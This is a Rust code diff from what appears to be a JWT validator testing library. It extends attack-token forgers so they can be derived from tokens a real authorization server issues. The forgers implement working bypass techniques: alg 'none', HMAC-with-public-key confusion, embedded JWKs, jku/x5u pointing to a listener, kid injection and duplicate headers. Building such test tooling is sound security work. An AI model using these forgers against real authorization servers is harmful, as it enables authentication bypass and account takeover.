@@ -7,15 +7,24 @@
 //! the valid token spec `V`). Post-signing changes are [`Tamper`] steps, usable on their own
 //! (`spec.mint_tampered(key, &[Tamper::StripSignature])` with [`TamperExt`]).
 //!
+//! Against a real authorization server there is no AS private key, only the tokens it issues
+//! and its JWKS: [`Attack::derive`] builds the same stimuli from an [`IssuedToken`] (and its
+//! published key) wherever the attack needs no signature by the AS, and
+//! [`IssuedToken::edited`] changes one claim under the AS's original signature.
+//!
 //! No forger panics: an attack that does not fit the keys (an ECDSA attack on an RSA key, a
 //! PKCS#1 PEM of an EC key, a `kid` attack on a key without `kid`) returns [`NotApplicable`].
 
 pub mod cert;
+mod derive;
 mod tamper;
 pub mod vectors;
 pub mod weak_rsa;
 
+pub use derive::{ClaimEdit, DeriveContext, IssuedToken, NotAJwt, opaque_variants};
 pub use tamper::{Tamper, TamperExt, tamper, tamper_all};
+
+use std::borrow::Cow;
 
 use base64::Engine;
 use serde_json::json;
@@ -23,7 +32,8 @@ use serde_json::json;
 use crate::alg::{Algorithm, EcCurve, KeyFamily};
 use crate::der;
 use crate::ecdsa;
-use crate::jwk::JwkKey;
+use crate::json::JsonObject;
+use crate::jwk::{Jwk, JwkKey};
 use crate::jws::{self, ParseOptions, Segment};
 use crate::keys::SigningKey;
 use crate::token::TokenSpec;
@@ -556,28 +566,55 @@ impl Attack {
     /// Builds the forged token. Untouched parts of the valid token keep their exact text.
     /// Returns [`NotApplicable`] when the keys do not fit the attack (never panics).
     pub fn forge(&self, ctx: &ForgeContext) -> Result<String, NotApplicable> {
-        let victim = ctx.victim;
-        let valid = || ctx.spec.mint(victim);
-        let ec_curve = || match victim.alg().key_family() {
-            KeyFamily::Ec(c) => Ok(c),
+        self.build(
+            &Victim::minted(ctx.victim, ctx.spec),
+            ctx.attacker,
+            ctx.listener_url,
+        )
+    }
+
+    /// The per-variant forgers behind [`Self::forge`] and [`Self::derive`]: everything they
+    /// know of the victim is in `victim`, so one logic serves a minted and an issued `V`.
+    fn build(
+        &self,
+        victim: &Victim,
+        attacker: &SigningKey,
+        listener_url: &str,
+    ) -> Result<String, NotApplicable> {
+        let valid = || (victim.valid)();
+        let spec = victim.spec.as_ref();
+        let signer = || {
+            victim
+                .signer
+                .ok_or_else(|| self.not_applicable(NEEDS_SIGNING_KEY))
+        };
+        let public_jwk = || {
+            victim
+                .public_jwk
+                .as_deref()
+                .ok_or_else(|| self.not_applicable(NEEDS_PUBLISHED_KEY))
+        };
+        let ec_curve = || match victim.alg.map(Algorithm::key_family) {
+            Some(KeyFamily::Ec(c)) => Ok(c),
             _ => Err(self.not_applicable("needs an ECDSA victim key")),
         };
         let victim_kid = || {
-            ctx.victim_kid()
+            victim
+                .kid
                 .ok_or_else(|| self.not_applicable("needs a victim key with a kid"))
         };
         // HS256 over V's claims with `secret`, under the victim's kid when it has one.
         let hmac = |secret: &[u8]| {
             let key = SigningKey::hmac(secret);
-            let key = match victim.kid() {
+            let key = match victim.kid {
                 Some(kid) => key.with_kid(kid),
                 None => key,
             };
-            ctx.spec.clone().alg("HS256").mint(&key)
+            spec.clone().alg("HS256").mint(&key)
         };
         // The valid token's header with `alg` replaced in place.
         let header_with_alg = |alg: &str| {
-            let mut header = ctx.spec.final_header(victim);
+            let mut header = victim.header.clone();
             header.set("alg", alg);
             header
         };
@@ -596,7 +633,7 @@ impl Attack {
             Attack::SignatureStripped => tamper(&valid(), &Tamper::StripSignature),
             Attack::SignatureBroken => tamper(&valid(), &Tamper::BreakSignature),
             Attack::HmacWithPublicKey(form) => {
-                let secret = public_key_bytes(victim, *form).ok_or_else(|| {
+                let secret = public_jwk_bytes(public_jwk()?, *form).ok_or_else(|| {
                     self.not_applicable("this byte form does not exist for the key type")
                 })?;
                 hmac(&secret)
@@ -652,62 +689,68 @@ impl Attack {
                 tamper(&valid(), &Tamper::AppendToSignature(vec![0x01; 32]))
             }
             Attack::EmbeddedJwk { keep_victim_kid } => {
-                let spec = ctx.spec.clone().jwk(&ctx.attacker.public_jwk());
+                let spec = spec.clone().jwk(&attacker.public_jwk());
                 let spec = if *keep_victim_kid {
                     spec.kid(victim_kid()?)
                 } else {
                     spec.without_header("kid")
                 };
-                spec.mint(ctx.attacker)
+                spec.mint(attacker)
             }
-            Attack::Jku => ctx.spec.clone().jku(ctx.listener_url).mint(ctx.attacker),
-            Attack::X5u => ctx.spec.clone().x5u(ctx.listener_url).mint(ctx.attacker),
-            Attack::JkuAt(url) => ctx.spec.clone().jku(url).mint(ctx.attacker),
+            Attack::Jku => spec.clone().jku(listener_url).mint(attacker),
+            Attack::X5u => spec.clone().x5u(listener_url).mint(attacker),
+            Attack::JkuAt(url) => spec.clone().jku(url).mint(attacker),
             Attack::X5c => {
-                let der = cert::self_signed(ctx.attacker).ok_or_else(|| {
+                let der = cert::self_signed(attacker).ok_or_else(|| {
                     self.not_applicable("no X.509 certificate for the attacker key type")
                 })?;
                 let x5c = json!([base64::engine::general_purpose::STANDARD.encode(der)]);
-                ctx.spec.clone().header("x5c", x5c).mint(ctx.attacker)
+                spec.clone().header("x5c", x5c).mint(attacker)
             }
-            Attack::KidInjection { kid, secret } => ctx
-                .spec
+            Attack::KidInjection { kid, secret } => spec
                 .clone()
                 .alg("HS256")
                 .kid(kid)
                 .mint(&SigningKey::hmac(secret)),
             Attack::Crit(form) => {
-                let spec = ctx.spec.clone();
+                let key = signer()?;
+                let spec = spec.clone();
                 let spec = match form {
                     CritForm::Unknown => spec.crit(&["x-foo"]).header("x-foo", 1),
                     CritForm::Empty => spec.crit(&[]),
                     CritForm::Registered => spec.crit(&["alg"]),
                     CritForm::Absent => spec.crit(&["x-absent"]),
                 };
-                spec.mint(victim)
+                spec.mint(key)
             }
             Attack::KidWithHmac => {
+                let jwk = public_jwk()?;
                 victim_kid()?;
-                let secret = public_key_bytes(victim, PublicKeyForm::SpkiPem)
+                let secret = public_jwk_bytes(jwk, PublicKeyForm::SpkiPem)
                     .ok_or_else(|| self.not_applicable("needs an asymmetric victim key"))?;
                 hmac(&secret)
             }
             Attack::KidWithOtherKeyType => {
-                if ctx.attacker.alg().key_family() == victim.alg().key_family() {
+                let family = victim
+                    .family()
+                    .ok_or_else(|| self.not_applicable("needs to know the victim key type"))?;
+                if attacker.alg().key_family() == family {
                     return Err(self.not_applicable("needs an attacker key of another key type"));
                 }
-                ctx.spec.clone().kid(victim_kid()?).mint(ctx.attacker)
+                spec.clone().kid(victim_kid()?).mint(attacker)
             }
             Attack::RsaFamilySwitch => {
-                let other = match victim.alg() {
+                let key = signer()?;
+                let other = match key.alg() {
                     Algorithm::Rs256 => "PS256",
                     Algorithm::Ps256 => "RS256",
                     _ => return Err(self.not_applicable("needs an RSA victim key")),
                 };
-                ctx.spec.clone().alg(other).mint(victim)
+                spec.clone().alg(other).mint(key)
             }
-            Attack::ForeignKid(kid) => ctx.spec.clone().kid(kid).mint(victim),
+            Attack::ForeignKid(kid) => spec.clone().kid(kid).mint(signer()?),
             Attack::CurveRelabeled => {
+                let key = signer()?;
                 let other = match ec_curve()? {
                     EcCurve::P256 => "ES384",
                     EcCurve::P384 => "ES256",
@@ -716,20 +759,21 @@ impl Attack {
                 // Signed over the relabeled header: only the label lies.
                 jws::sign_raw(
                     &header_with_alg(other).to_bytes(),
-                    &ctx.spec.claims_json().to_bytes(),
-                    victim,
+                    &spec.claims_json().to_bytes(),
+                    key,
                 )
             }
             Attack::EcdsaWrongHash => {
+                let key = signer()?;
                 let curve = ec_curve()?;
-                let unsigned = ctx.spec.unsigned(victim);
+                let unsigned = spec.unsigned(key);
                 let input = unsigned.trim_end_matches('.');
-                let sig = ecdsa_over_other_hash(victim, curve, input.as_bytes())
+                let sig = ecdsa_over_other_hash(key, curve, input.as_bytes())
                     .ok_or_else(|| self.not_applicable("needs a P-256 or P-384 key"))?;
                 tamper(&unsigned, &Tamper::SetSignature(sig))
             }
             Attack::DuplicateAlgNone => {
-                let mut header = ctx.spec.final_header(victim);
+                let mut header = victim.header.clone();
                 header.push_duplicate("alg", "none");
                 tamper_all(
                     &valid(),
@@ -737,24 +781,73 @@ impl Attack {
                 )
             }
             Attack::DuplicateAud { other } => {
-                ctx.spec.clone().duplicate_claim("aud", *other).mint(victim)
+                spec.clone().duplicate_claim("aud", *other).mint(signer()?)
             }
             Attack::Malformed(structure) => malformed(&valid, *structure),
             Attack::NestedAttackerOuter => {
-                let outer = json!({"alg": ctx.attacker.alg().name(), "cty": "JWT"});
-                jws::sign_raw(
-                    outer.to_string().as_bytes(),
-                    valid().as_bytes(),
-                    ctx.attacker,
-                )
+                let outer = json!({"alg": attacker.alg().name(), "cty": "JWT"});
+                jws::sign_raw(outer.to_string().as_bytes(), valid().as_bytes(), attacker)
             }
             Attack::NestedUnsignedInner => {
-                let inner = ctx.spec.clone().alg("none").unsigned(victim);
-                let mut outer = json!({"alg": victim.alg().name(), "cty": "JWT"});
-                if let Some(kid) = victim.kid() {
+                let key = signer()?;
+                let inner = spec.clone().alg("none").unsigned(key);
+                let mut outer = json!({"alg": key.alg().name(), "cty": "JWT"});
+                if let Some(kid) = key.kid() {
                     outer["kid"] = json!(kid);
                 }
-                jws::sign_raw(outer.to_string().as_bytes(), inner.as_bytes(), victim)
+                jws::sign_raw(outer.to_string().as_bytes(), inner.as_bytes(), key)
+            }
+        })
+    }
+}
+
+/// The reason an attack gives when it must be signed by the AS key and only a token the AS
+/// issued is at hand ([`Attack::derive`]).
+pub const NEEDS_SIGNING_KEY: &str = "needs the authorization server's signing key";
+
+/// The reason an attack on the AS public key gives when no published key was attached
+/// ([`IssuedToken::with_public_key`]).
+pub const NEEDS_PUBLISHED_KEY: &str = "needs the authorization server's published key";
+
+/// What the per-variant forgers know of the victim: the valid token `V`, how it was signed,
+/// and, only when `V` was minted here, the private key and the spec behind it.
+struct Victim<'a> {
+    /// `V`: minted afresh on each call (ECDSA and PSS signatures differ), or the issued text.
+    valid: Box<dyn Fn() -> String + 'a>,
+    /// `V`'s header as signed, member order kept.
+    header: JsonObject,
+    /// `V` as a spec, for HMAC and attacker re-signing: unless set explicitly, `alg` and
+    /// `kid` come from the re-signing key.
+    spec: Cow<'a, TokenSpec>,
+    /// `None` for an `alg` this crate does not implement.
+    alg: Option<Algorithm>,
+    kid: Option<&'a str>,
+    public_jwk: Option<Cow<'a, Jwk>>,
+    signer: Option<&'a SigningKey>,
+}
+
+impl<'a> Victim<'a> {
+    fn minted(key: &'a SigningKey, spec: &'a TokenSpec) -> Self {
+        Self {
+            valid: Box::new(move || spec.mint(key)),
+            header: spec.final_header(key),
+            spec: Cow::Borrowed(spec),
+            alg: Some(key.alg()),
+            kid: key.kid(),
+            public_jwk: Some(Cow::Owned(key.public_jwk().to_public())),
+            signer: Some(key),
+        }
+    }
+
+    /// The victim key's family, from `alg` or else from the published key.
+    fn family(&self) -> Option<KeyFamily> {
+        self.alg.map(Algorithm::key_family).or_else(|| {
+            let jwk = self.public_jwk.as_deref()?;
+            match &jwk.key {
+                JwkKey::Ec { .. } => jwk.ec_curve().map(KeyFamily::Ec),
+                JwkKey::Rsa { .. } => Some(KeyFamily::Rsa),
+                JwkKey::Okp { crv, .. } => (crv == "Ed25519").then_some(KeyFamily::Ed25519),
+                JwkKey::Oct { .. } => Some(KeyFamily::Symmetric),
             }
         })
     }
@@ -848,27 +941,30 @@ fn malformed(valid: &dyn Fn() -> String, structure: Structure) -> String {
 
 /// The public key of `key` in the given byte form (`None` where the form does not exist).
 pub fn public_key_bytes(key: &SigningKey, form: PublicKeyForm) -> Option<Vec<u8>> {
-    let spki = key.public_key_spki_der()?;
-    let pem_of = |tag: &str, der: Vec<u8>| {
-        pem::encode_config(
-            &pem::Pem::new(tag, der),
-            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
-        )
-    };
-    let jwk = key.public_jwk();
+    public_jwk_bytes(&key.public_jwk().to_public(), form)
+}
+
+/// A public JWK in the given byte form (`None` where the form does not exist, and for keys
+/// without an SPKI form such as `oct`). [`PublicKeyForm::JwkJson`] is the JWK's own compact
+/// JSON, every member it carries included, as a JWKS publishes it.
+pub fn public_jwk_bytes(jwk: &Jwk, form: PublicKeyForm) -> Option<Vec<u8>> {
+    let spki = cert::spki_der(jwk)?;
     match form {
-        PublicKeyForm::SpkiPem => Some(pem_of("PUBLIC KEY", spki).into_bytes()),
-        PublicKeyForm::SpkiPemNoTrailingNewline => {
-            Some(pem_of("PUBLIC KEY", spki).trim_end().as_bytes().to_vec())
-        }
+        PublicKeyForm::SpkiPem => Some(cert::pem_lf("PUBLIC KEY", spki).into_bytes()),
+        PublicKeyForm::SpkiPemNoTrailingNewline => Some(
+            cert::pem_lf("PUBLIC KEY", spki)
+                .trim_end()
+                .as_bytes()
+                .to_vec(),
+        ),
         PublicKeyForm::Pkcs1Pem => {
             if !matches!(jwk.key, JwkKey::Rsa { .. }) {
                 return None;
             }
-            Some(pem_of("RSA PUBLIC KEY", spki_subject_public_key(&spki)?).into_bytes())
+            Some(cert::pem_lf("RSA PUBLIC KEY", spki_subject_public_key(&spki)?).into_bytes())
         }
         PublicKeyForm::SpkiDer => Some(spki),
-        PublicKeyForm::JwkJson => Some(jwk.to_public().to_json().to_string().into_bytes()),
+        PublicKeyForm::JwkJson => Some(jwk.to_json().to_string().into_bytes()),
         PublicKeyForm::Raw => match &jwk.key {
             JwkKey::Rsa { n, .. } => Some(n.clone()),
             JwkKey::Ec { x, y, .. } => Some([&[0x04][..], x, y].concat()),
